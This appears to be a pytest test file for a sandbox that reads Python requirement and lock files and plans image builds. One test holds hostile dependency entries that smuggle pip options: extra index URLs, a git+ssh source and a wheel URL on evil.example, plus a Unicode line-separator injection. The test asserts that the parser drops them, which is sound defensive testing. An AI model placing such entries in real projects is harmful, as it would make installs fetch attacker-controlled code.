"""Requirement files written to hurt: read in linear time, and nothing in them becomes an option of pip."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping

import pytest

from nightshift.daemon.model import Case
from nightshift.daemon.ports import EnvironmentBroke
from nightshift.sandboxes.project.index import Settings
from nightshift.sandboxes.project.order import Base, Build, image_key
from nightshift.sandboxes.project.plan import Plan
from nightshift.sandboxes.project.requirements import read
from nightshift.sandboxes.project.resolve import plan
from nightshift.sandboxes.project.tree import Tree

Committed = Callable[[Mapping[str, str]], Case]
DEEP = "[" * 5000


def planned(committed: Committed, files: Mapping[str, str]) -> Plan:
    case = committed(files)
    return plan(Tree(case.repo, case.base))


@pytest.mark.parametrize("line", ["a" + " " * 200_000 + "b", "-r" + "=" * 200_000 + " b", "a" + "\t" * 200_000 + "-"])
def test_long_runs_are_read_and_do_not_take_minutes(committed: Committed, line: str) -> None:
    case = committed({"requirements.txt": f"{line}\nmoney==1\n"})
    assert "money==1" in read(Tree(case.repo, case.base), ["requirements.txt"]).lines


@pytest.mark.parametrize("files", [
    {"pyproject.toml": f"a={DEEP}"}, {"uv.lock": f"a={DEEP}"}, {"Pipfile.lock": DEEP}, {"poetry.lock": "package = 3"},
    {"Pipfile.lock": json.dumps({"default": {"a": {"version": "==1", "extras": [1]}}})},
])  # fmt: skip
def test_what_is_nested_without_end_or_of_another_type_is_no_error(committed: Committed, files: dict[str, str]) -> None:
    assert isinstance(planned(committed, files), Plan)


def test_one_declared_line_is_one_line_and_no_address(committed: Committed) -> None:
    odd = ["a\n--index-url https://evil.example/simple", "-e git+ssh://evil.example/x", "b @ https://evil.example/b.whl",
           "c\u2028--no-binary :all:"]  # fmt: skip
    lock = json.dumps({"default": {"d": {"version": "==1\n--extra-index-url https://evil.example"}}})
    text = f"[project]\nname = 'x'\ndependencies = {json.dumps(['money>=1', *odd])}\n"
    made = planned(committed, {"pyproject.toml": text, "Pipfile.lock": lock})
    assert made.required == ("money>=1",)
    assert made.constraints == ()
    assert len(made.dropped) == 5


def test_what_was_installed_from_elsewhere_is_not_taken_for_the_same() -> None:
    recipe, base = Plan(required=("a",)).text(), Base(identity="3.11")
    said = [Settings(index=("https://one.example/simple",)), Settings(index=("https://two.example/simple",)),
            Settings(index=("https://one.example/simple",), sdists=True)]  # fmt: skip
    assert len({image_key(recipe, base, each) for each in said}) == 3
    secret = Settings(index=("https://me:token@one.example/simple",))
    assert image_key(recipe, base, secret) == image_key(recipe, base, said[0])


@pytest.mark.parametrize("address", ["not a url", "pypi.example", "ftp://x"])
def test_an_index_is_an_address(address: str) -> None:
    with pytest.raises(ValueError, match="no address of a package index"):
        Settings(index=(address,))


def build(attempt: object, failed: list[str]) -> Build:
    made = Build.of(Plan(required=("a",), wanted=("b",)).text(), Settings(index=("https://index.example/simple",)))
    made.mirror.failed += failed
    return made


def test_an_image_that_lacks_packages_because_the_index_failed_is_not_kept() -> None:
    told = json.dumps({"attempt": 1, "held": [], "tail": ""}).encode()
    assert build(1, []).accept(told, b"", "exited")["attempt"] == 1
    with pytest.raises(EnvironmentBroke, match="does not answer"):
        build(1, ["the package index at index.example does not answer"]).accept(told, b"", "exited")


@pytest.mark.parametrize("told", [b"[]", b"3", b"{", DEEP.encode(), b'{"attempt": "x"}', b'{"attempt": 0}', None])
def test_a_result_that_a_package_forged_is_a_broken_environment(told: bytes | None) -> None:
    with pytest.raises(EnvironmentBroke, match="could not be built"):
        build(0, []).accept(told, b"words", "exited")
